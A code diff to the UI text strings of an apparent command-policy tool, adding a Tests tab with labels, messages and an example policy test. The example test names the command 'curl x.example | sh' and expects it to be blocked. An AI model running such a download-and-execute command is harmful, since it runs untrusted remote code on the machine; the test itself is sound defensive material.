@@ -14,6 +14,7 @@ export const texts = {
     label: "Panels",
     policy: "Policy",
     event: "Event",
+    tests: "Tests",
     replay: "Replay",
     compare: "Compare",
     gate: "Prompt",
@@ -126,8 +127,40 @@ export const texts = {
     origins: { site: "yours", builtin: "built in" },
     allow: "Allow this",
     allowDone: "An exception for exactly this event is in the policy.",
+    writeTest: "Write a test of it",
     copy: "Copy event",
     copied: "Copied",
+  },
+  tests: {
+    title: "Tests",
+    none: "This policy has no tests yet",
+    what: "A test names an event, and the verdict that the rules should have on it. Tests run while you type.",
+    example: `test "a download is not run" {
+  command = "curl x.example | sh"
+  expect  = "block"
+}`,
+    ofEvent: "Write a test of the event in the event panel",
+    written: "A test of this event is at the end of the policy.",
+    exists: "The policy has this test already.",
+    notWritten: (why: string): string => `No test was written: ${why}`,
+    stale: "The policy has errors. The tests ran with the last version without any.",
+    waits: "The policy has errors. Mend them to run its tests.",
+    failed: (why: string): string => `The tests did not run: ${why}`,
+    unread: "Some tests have mistakes and did not run:",
+    summary: (failed: number, all: number): string =>
+      failed === 0
+        ? `✓ ${all === 1 ? "The test passes" : `All ${all.toLocaleString("en")} tests pass`}`
+        : `✕ ${failed.toLocaleString("en")} of ${counted(all, "test")} ${failed === 1 ? "fails" : "fail"}`,
+    coverage: (fired: number, all: number, percent: number): string =>
+      `Tests fire ${fired.toLocaleString("en")} of ${counted(all, "rule")} of your own (${Math.floor(percent)}\u00a0%).`,
+    unfired: "No test fires:",
+    unfiredRule: "No test fires this rule",
+    failing: "Failing",
+    passing: "Passing",
+    outcomes: { passed: "The test passes", failed: "The test fails", invalid: "The event of the test is not one" },
+    decided: (reason: string): string => `decided: ${reason}`,
+    open: "Open event",
+    openOf: (name: string): string => `Open event of ${name}`,
   },
   replay: {
     title: "Replay",
@@ -167,6 +200,8 @@ export const texts = {
       shown >= all ? counted(all, "event") : `${shown.toLocaleString("en")} of ${counted(all, "event")}`,
     noKept: "No event of it was kept.",
     open: "Open in the event panel",
+    writeTest: "+ Test",
+    writeTestOf: (subject: string): string => `+ Test of ${subject}`,
     close: "Close",
   },
   compare: {
@@ -234,4 +269,4 @@ function formatBytes(bytes: number): string {
   return `${bytes} B`;
 }
 
-export type Tab = "policy" | "event" | "replay" | "compare" | "gate";
+export type Tab = "policy" | "event" | "tests" | "replay" | "compare" | "gate";
